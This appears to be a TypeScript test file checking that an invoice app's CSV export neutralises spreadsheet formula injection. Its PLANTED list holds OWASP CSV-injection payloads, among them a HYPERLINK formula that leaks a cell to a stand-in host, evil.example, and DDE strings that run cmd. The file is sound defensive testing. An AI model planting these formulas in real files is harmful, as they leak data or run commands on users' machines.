import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { Document } from '../../../shared/api'
import { documentsCsv, documentsJson, itemsCsv, neutralizeFormula } from './format'

/** Formulas an attacker can plant through OCR'd invoice text (OWASP CSV Injection examples). */
const PLANTED = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
]

function plantedDocument(id: number, formula: string): Document {
  return {
    id,
    type: 'PurchaseInvoice',
    state: 'ready',
    user_file_name: formula,
    data: { header: { invoice_no: formula, variable_symbol: formula, issue_date: formula, currency: formula } },
    supplier: { name: formula, vat_id: formula, street: formula, city: formula },
    customer: { name: formula },
    summary: { sub_total: -12.5, vat_total: -2.63, total: -15.13 },
    items: [{ id: 1, code: formula, name: formula, unit: formula, quantity: -1, unit_price: 12.5, total: -15.13 }],
  } as Document
}

const parseRows = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[]
const TEXT_DOCUMENT_COLUMNS = [
  'user_file_name',
  'invoice_no',
  'variable_symbol',
  'issue_date',
  'currency',
  'supplier_name',
  'supplier_vat_id',
  'supplier_street',
  'supplier_city',
  'customer_name',
] as const

describe('CSV export: formula injection', () => {
  it('turns every planted formula in a text column into text with a leading quote, cell by cell', () => {
    const docs = PLANTED.map((formula, i) => plantedDocument(i + 1, formula))
    const rows = parseRows(documentsCsv(docs, ['id', ...TEXT_DOCUMENT_COLUMNS, 'sub_total', 'total']))
    expect(rows).toHaveLength(PLANTED.length)
    rows.forEach((row, i) => {
      for (const column of TEXT_DOCUMENT_COLUMNS) {
        // A date column keeps unreadable text, trimmed.
        const planted = column === 'issue_date' ? PLANTED[i]!.trim() : PLANTED[i]
        expect(row[column], column).toBe(`'${planted}`)
      }
    })
  })

  it('keeps amounts as numbers: a negative amount stays -12.5, not text', () => {
    const rows = parseRows(documentsCsv([plantedDocument(1, '=1+1')], ['id', 'sub_total', 'vat_total', 'total']))
    expect(rows[0]).toEqual({ id: '1', sub_total: '-12.5', vat_total: '-2.63', total: '-15.13' })
  })

  it('neutralises item text columns and leaves item numbers alone', () => {
    const rows = parseRows(itemsCsv(PLANTED.map((formula, i) => plantedDocument(i + 1, formula))))
    rows.forEach((row, i) => {
      for (const column of ['invoice_no', 'supplier_name', 'currency', 'code', 'name', 'unit'])
        expect(row[column], column).toBe(`'${PLANTED[i]}`)
      expect(row).toMatchObject({ document_id: String(i + 1), item_id: '1', quantity: '-1', total: '-15.13' })
    })
  })

  it('leaves text that starts harmlessly unchanged, and the JSON export untouched', () => {
    expect(neutralizeFormula('Acme, s.r.o.')).toBe('Acme, s.r.o.')
    expect(neutralizeFormula('2026-10-30')).toBe('2026-10-30')
    expect(neutralizeFormula(' =not at the start')).toBe(' =not at the start')
    expect(neutralizeFormula(null)).toBeNull()
    const json = JSON.parse(
      documentsJson([plantedDocument(1, '=1+1')], ['supplier_name', 'total'], {
        includeItems: false,
        exportedAt: new Date('2026-11-22T00:00:00Z'),
      }),
    )
    expect(json.documents[0]).toEqual({ supplier_name: '=1+1', total: -15.13 })
  })
})
